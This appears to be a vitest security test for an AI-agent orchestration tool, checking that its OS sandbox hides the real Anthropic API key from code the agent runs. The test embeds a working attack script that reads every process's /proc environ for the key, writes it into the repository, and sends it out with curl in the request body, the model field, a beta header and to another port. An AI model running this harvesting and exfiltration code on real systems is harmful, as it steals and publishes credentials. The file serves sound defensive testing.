/**
 * The agent tool's API key, tried as an attacker would. Code the agent writes (a test file run through
 * the allowed `npm test`) looks for `ANTHROPIC_API_KEY` wherever it can: its own environment and that of
 * every process it can see (`/proc/<pid>/environ`: the Claude Code stand-in above it holds the key). It
 * writes what it found into its work, which a merge would publish, and sends it to the model API. In the
 * OS sandbox it must find only srt's stand-in, while the API still gets the real key, put in by srt's
 * proxy on the host (authz/render/os.ts osSandboxSettings, `credentials`).
 */
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import { join } from 'node:path';
import { generate } from 'selfsigned';
import { afterEach, describe, expect, it } from 'vitest';
import { agentctl, approveRepo, cleanup, git, makeRepo, SCRIPTED_CLAUDE, script, taskFile, tempDir } from '../helpers.js';

const has = (bin: string) => spawnSync('sh', ['-c', `command -v ${bin}`]).status === 0;
const sandboxAvailable = process.platform === 'linux' && ['bwrap', 'socat', 'rg'].every(has);

/**
 * The attack, run by `npm test` in the sandbox. It finds the key in the environment of every process it
 * can see (Claude Code's stand-in holds it, and its Bash tool hands it on, proxy and CA settings
 * included), prints `found <values>`, writes them into its work, then sends them with curl in that
 * environment: as the key (a model request), and where the API quotes a request back in its errors (an
 * unknown `model`, an unknown `anthropic-beta` value, as api.anthropic.com does), and to another port of
 * the API's host. Every answer goes into its work too.
 */
const ATTACK = `
const fs = require('node:fs');
const { execFileSync } = require('node:child_process');
const environments = [process.env];
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  try {
    environments.push(Object.fromEntries(fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(Boolean).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)])));
  } catch {}
}
const holders = environments.filter((e) => e.ANTHROPIC_API_KEY);
const keys = [...new Set(holders.map((e) => e.ANTHROPIC_API_KEY))];
console.log('found ' + JSON.stringify(keys));
const tool = holders[0];
const key = tool.ANTHROPIC_API_KEY;
const curl = (what, url, headers, body) => {
  try {
    const out = execFileSync('curl', ['-sS', '-w', '\\n%{http_code}', ...headers.flatMap((h) => ['-H', h]), '-H', 'content-type: application/json', '-d', body, url], { env: tool }).toString();
    console.log(what + ' answered ' + out.split('\\n').pop());
    return what + ' ' + out;
  } catch (e) {
    console.log(what + ' failed');
    return what + ' failed ' + e.message;
  }
};
const answers = [
  curl('message', tool.ANTHROPIC_BASE_URL + '/v1/messages', ['x-api-key: ' + key], JSON.stringify({ model: 'claude', messages: [{ role: 'user', content: 'the key is ' + key }] })),
  curl('model', tool.ANTHROPIC_BASE_URL + '/v1/messages', ['x-api-key: ' + key], JSON.stringify({ model: key, messages: [] })),
  curl('beta', tool.ANTHROPIC_BASE_URL + '/v1/messages', ['x-api-key: ' + key, 'anthropic-beta: ' + key], '{}'),
  curl('other-port', __OTHER__ + '/v1/messages', ['x-api-key: ' + key], '{}'),
];
fs.mkdirSync('docs', { recursive: true });
fs.writeFileSync('docs/leak.md', keys.join('\\n') + '\\n' + answers.join('\\n') + '\\n');
`;

type Seen = { key: string | undefined; beta: string | undefined; body: string };

/**
 * A stand-in for the model API over HTTPS on 127.0.0.2 (which the sandbox's proxy reaches), recording each
 * request. Like api.anthropic.com it quotes an unknown model (404) and an unknown `anthropic-beta` value
 * (400) back in its error.
 */
async function apiServer(cert: { cert: string; private: string }): Promise<{ server: Server; origin: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer({ key: cert.private, cert: cert.cert }, (req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      const beta = req.headers['anthropic-beta'] as string | undefined;
      seen.push({ key: req.headers['x-api-key'] as string | undefined, beta, body });
      res.setHeader('content-type', 'application/json');
      let model: unknown;
      try {
        model = (JSON.parse(body) as { model?: unknown }).model;
      } catch {}
      if (beta) {
        res.statusCode = 400;
        res.end(JSON.stringify({ type: 'error', error: { type: 'invalid_request_error', message: `Unexpected value(s) \`${beta}\` for the \`anthropic-beta\` header.` } }));
      } else if (typeof model === 'string' && model !== 'claude') {
        res.statusCode = 404;
        res.end(JSON.stringify({ type: 'error', error: { type: 'not_found_error', message: `model: ${model}` } }));
      } else res.end('{"type":"message","content":[]}');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.2', r));
  return { server, origin: `https://127.0.0.2:${(server.address() as { port: number }).port}`, seen };
}

afterEach(cleanup);

describe.runIf(sandboxAvailable)('the agent tool\'s API key in the OS sandbox', () => {
  it('code the agent runs finds only a stand-in (its environment, every /proc/<pid>/environ) and gets no real key back from the API (quoted fields) nor sends it anywhere else; the API still gets it', async () => {
    const cert = await generate([{ name: 'commonName', value: 'agentctl test API' }], { keySize: 2048, days: 2, extensions: [{ name: 'subjectAltName', altNames: [{ type: 7, ip: '127.0.0.2' }] }] });
    const caFile = join(tempDir(), 'api.pem');
    writeFileSync(caFile, cert.cert);
    const api = await apiServer(cert);
    const other = await apiServer(cert);
    try {
      const realKey = `sk-ant-test-${randomUUID()}`;
      // srt (the sandbox's own program, on the host) checks the API's certificate: agents.claude.env is its environment.
      const { repo, home } = makeRepo({
        '.agentrc.yaml': `agents:\n  claude:\n    bin: ${SCRIPTED_CLAUDE}\n    env:\n      NODE_EXTRA_CA_CERTS: ${caFile}\n`,
        'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'node test/x.test.js' } }),
        'tasks/t.md': taskFile({ agent: 'claude', type: 'docs' }, script({ write: 'test/x.test.js', content: ATTACK.replace('__OTHER__', JSON.stringify(other.origin)) }, { bash: 'npm test' }, { say: 'done' })),
        // Without the OS sandbox nothing replaces the keys: policy show must not claim stand-ins.
        '.agentctl/profiles/open.yaml': 'extends: implement\nsandbox: none\n',
        'tasks/open.md': taskFile({ agent: 'claude', type: 'docs', profile: 'open' }, 'work'),
      });
      approveRepo(repo, home);
      const env = { ANTHROPIC_API_KEY: realKey, ANTHROPIC_BASE_URL: api.origin };
      const r = await agentctl(repo, home, ['run', 't', '--json'], env);
      expect(r.code, r.stderr).toBe(0);
      const run = JSON.parse(r.stdout).run;
      const log = (await agentctl(repo, home, ['log', '--run', run.runId, '--json'])).stdout;
      const result = (JSON.parse(log).events as { type: string; payload: { output?: string } }[]).filter((e) => e.type === 'tool.result').map((e) => e.payload.output ?? '').join('\n');
      // The attack ran and found the variable, but only a stand-in in it.
      const found = JSON.parse(/found (\[.*\])/.exec(result)?.[1] ?? 'null') as string[] | null;
      expect(found, result).toEqual([expect.stringMatching(/^agentctl-stand-in-[0-9a-f]{32}$/)]);
      expect(result).toContain('message answered 200');
      expect(result).toContain('model answered 404');
      expect(result).toContain('beta answered 400');
      // What it wrote into its work (what a merge publishes): the stand-in, the API's answers quoting the
      // stand-in, never the key.
      const leak = git(repo, 'show', `${run.branch}:docs/leak.md`);
      expect(leak).toContain(`model: ${found![0]}`);
      expect(leak).not.toContain(realKey);
      expect(log).not.toContain(realKey);
      expect(readFileSync(join(home, 'agentctl.db')).includes(realKey)).toBe(false);
      // The API got the real key in its key header, and the stand-in everywhere else (body, other headers).
      expect(api.seen.map((s) => s.key)).toEqual([realKey, realKey, realKey]);
      expect(api.seen[0]!.body).toContain(`the key is ${found![0]}`);
      expect(api.seen[1]!.body).toContain(found![0]);
      expect(api.seen[2]!.beta).toBe(found![0]);
      // Another port of the API's host is not reachable at all.
      expect(other.seen).toEqual([]);
      expect(result).toMatch(/other-port (answered 403|failed)/);
      // policy show says so, as the run renders it.
      const shown = await agentctl(repo, home, ['policy', 'show', 't', '--tool', 'claude'], env);
      expect(shown.stdout).toContain(`API keys: ANTHROPIC_API_KEY hold a stand-in inside; the sandbox's proxy puts the real key in the authentication header of requests to ${api.origin.slice('https://'.length)} only`);
      expect(shown.stdout).not.toContain(realKey);
      const json = JSON.parse((await agentctl(repo, home, ['policy', 'show', 't', '--json'], env)).stdout);
      expect(json.osSandbox.apiKeys).toEqual({ standIns: ['ANTHROPIC_API_KEY'], realKeysFor: api.origin.slice('https://'.length) });
      expect(json.osSandbox.settings.network).toMatchObject({ allowedDomains: [api.origin.slice('https://'.length)], tlsTerminate: { excludeDomains: [] }, requireHostMatch: true });
      const open = await agentctl(repo, home, ['policy', 'show', 'open', '--json'], env);
      expect(open.code, open.stderr).toBe(0);
      expect(JSON.parse(open.stdout).osSandbox.apiKeys).toBeNull();
      expect(JSON.parse(open.stdout).osSandbox.settings.network.tlsTerminate).toBeUndefined();
    } finally {
      api.server.close();
      other.server.close();
    }
  });
});
